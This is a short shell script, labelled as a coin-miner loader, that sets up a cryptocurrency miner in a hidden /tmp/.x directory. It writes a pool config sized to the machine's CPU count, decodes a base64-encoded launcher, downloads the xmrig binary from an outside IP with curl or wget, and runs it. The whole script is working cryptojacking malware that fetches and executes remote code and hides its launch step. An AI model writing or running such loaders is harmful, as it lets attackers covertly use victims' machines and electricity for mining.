# Coin-miner loader (written by the kansoku team): a config written with a here-document, a small
# script shipped as base64 and decoded, a miner fetched with curl, wget as the fallback, and a
# sed edit of the config with the number of CPUs.
mkdir -p /tmp/.x && cd /tmp/.x
cat > config.json <<'CFG'
{"pools":[{"url":"pool.example.invalid:3333","user":"WALLET","pass":"x"}],"threads":THREADS}
CFG
CPUS=$(grep -c processor /proc/cpuinfo)
sed -i "s/THREADS/$((CPUS * 2))/" config.json
base64 -d > run.sh <<'B64'
IyEvYmluL3NoCmNkIC90bXAvLngKLi94bXJpZyAtYyBjb25maWcuanNvbgo=
B64
curl -o xmrig http://192.0.2.40/xmrig || wget -O xmrig http://192.0.2.40/xmrig
chmod +x xmrig run.sh
sh run.sh
tail -n 1 config.json
